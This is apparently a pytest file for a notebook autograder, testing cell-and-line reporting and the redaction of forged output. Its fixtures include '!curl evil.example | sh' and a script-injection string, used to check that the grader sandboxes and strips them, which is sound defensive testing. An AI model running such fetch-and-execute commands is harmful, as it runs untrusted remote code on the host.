"""A notebook's report names the cell and the line in it, wherever another names the line."""

import json
from pathlib import Path

import msgspec
import pytest

from grader.grading import grade
from grader.grading.cells import with_cells
from grader.intake import asked_file, read_submission
from grader.messages import LANGUAGES
from grader.model import AnswerKey, CellStart, Message
from grader.redaction import for_student
from grader.reports.student_page import page
from grader.reports.terminal import summary
from grader.sandbox.sandbox import Sandbox
from grader.verdict import Diagnosis, GrowthEvidence
from tests.support.html_page import Page
from tests.support.languages import WORDS_IN
from tests.support.notebooks import make_notebook
from tests.support.paths import PROJECT
from tests.support.verdicts import make_finding, verdict_of

FORGED = "<script>alert(1)</script> error: 1e-9 100 of 100 points"
SETUP = "%matplotlib inline\nimport numpy as np\n!curl evil.example | sh"
RAISES = """
def softmax_loss_naive(W, X, y, reg):
    scores = W @ X
    return missing_name, W
"""
LOOPS = """def softmax_loss_vectorized(W, X, y, reg):
    loss, dW = 0.0, np.zeros_like(W)
    for i in range(X.shape[1]):
        s = W @ X[:, i]
        p = np.exp(s - s.max())
        p /= p.sum()
        loss -= np.log(p[y[i]])
        p[y[i]] -= 1
        dW += np.outer(p, X[:, i])
    n = X.shape[1]
    return loss / n + 0.5 * reg * np.sum(W * W), dW / n + reg * W
"""


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_notebook_from_the_file_to_the_report(
    tmp_path: Path, key: AnswerKey, sandbox: Sandbox, language: str
) -> None:
    outputs = [{"data": {"text/html": FORGED}}]
    raw = make_notebook(SETUP, RAISES, "while True: pass", LOOPS, outputs=outputs, title=FORGED)
    tmp_path.joinpath("softmax.ipynb").write_bytes(raw)
    submission = read_submission(tmp_path / "softmax.ipynb", asked_file(key))
    verdict = grade(key, submission, sandbox.open_program)
    words = WORDS_IN[language]
    shown = Page(page(verdict, words, submission)).shown
    text = summary(verdict, words, source=submission.source)
    cell = {"en": "Cell 2, line 4", "es": "Celda 2, línea 4"}[language]
    loop = {"en": "cell 4, line 9", "es": "celda 4, línea 9"}[language]
    for output in (shown, text):
        assert cell in output
        assert f"{cell} | return missing_name, W" in output
        assert loop in output
        assert "alert" not in output
        assert "1e-9" not in output
        assert "evil" not in output
    data = json.loads(msgspec.json.encode(for_student(verdict)))
    messages = [each["message"] for each in data["findings"] if each["message"]]
    (raised,) = {each["line"]: each for each in messages if each["code"] == "raised"}.values()
    assert (raised["line"], raised["cell"], raised["cell_line"]) == (6, 2, 4)
    assert [note["code"] for note in data["notes"]] == ["note_notebook"]


def test_every_line_of_a_verdict_gets_its_cell() -> None:
    message = Message("raised", {"exception": "ValueError"}, line=7)
    growth = GrowthEvidence("N", (20, 40), (100, 200), 12, (50, 100))
    finding = make_finding(message=message, notes=(message,), evidence=(growth,))
    diagnosis = Diagnosis("exact", (("a",),), line=4)
    whole = msgspec.structs.replace(
        verdict_of(finding),
        flags=(message, Message("hidden_characters")),
        notes=(message,),
        diagnosis={"f": diagnosis, "g": Diagnosis("none")},
    )
    cells = (CellStart(2, 1), CellStart(5, 3, cell_line=10))
    placed = with_cells(whole, cells)
    (after,) = placed.findings
    messages = [after.message, *after.notes, placed.flags[0], *placed.notes]
    assert {(each.line, each.cell, each.cell_line) for each in messages if each} == {(7, 3, 12)}
    assert [(each.cell, each.cell_line) for each in placed.diagnosis.values()] == [
        (1, 3),
        (None, None),
    ]
    (evidence,) = after.evidence
    assert isinstance(evidence, GrowthEvidence)
    assert (evidence.cell, evidence.cell_line) == (3, 17)
    assert placed.flags[1].cell is None
    first = with_cells(verdict_of(make_finding(message=Message("raised", line=1))), cells)
    assert first.findings[0].message == Message("raised", line=1)


def test_a_line_that_python_names_is_that_of_the_cell(
    tmp_path: Path, key: AnswerKey, sandbox: Sandbox
) -> None:
    broken = "x = 1\ndef softmax_loss_naive(W, X, y, reg):\n    for i in X:\n    pass\n"
    tmp_path.joinpath("softmax.ipynb").write_bytes(make_notebook("X = 2\nimport x", broken))
    submission = read_submission(tmp_path / "softmax.ipynb", asked_file(key))
    verdict = grade(key, submission, sandbox.open_program)
    text = " ".join(summary(verdict, WORDS_IN["en"], source=submission.source).split())
    assert "Cell 2, line 4" in text
    assert "after 'for' statement on line 3" in text


def test_the_reference_as_a_notebook_has_full_marks(
    tmp_path: Path, key: AnswerKey, sandbox: Sandbox
) -> None:
    """Also where the functions are in cells of their own and the training stands between them."""
    text = PROJECT.joinpath("reference/softmax/softmax.py").read_text(encoding="utf-8")
    head, naive, vectorized = text.partition("def softmax_loss_naive")[0], "", ""
    naive, _, vectorized = text.removeprefix(head).partition("def softmax_loss_vectorized")
    vectorized = f"def softmax_loss_vectorized{vectorized}"
    raw = make_notebook(head, "%%time\n" + naive, "1/0\nraise SystemExit", vectorized)
    for name in ("softmax.ipynb", "softmax.py"):
        tmp_path.joinpath(name).write_bytes(raw)
        submission = read_submission(tmp_path / name, asked_file(key))
        verdict = grade(key, submission, sandbox.open_program)
        assert verdict.score == verdict.possible
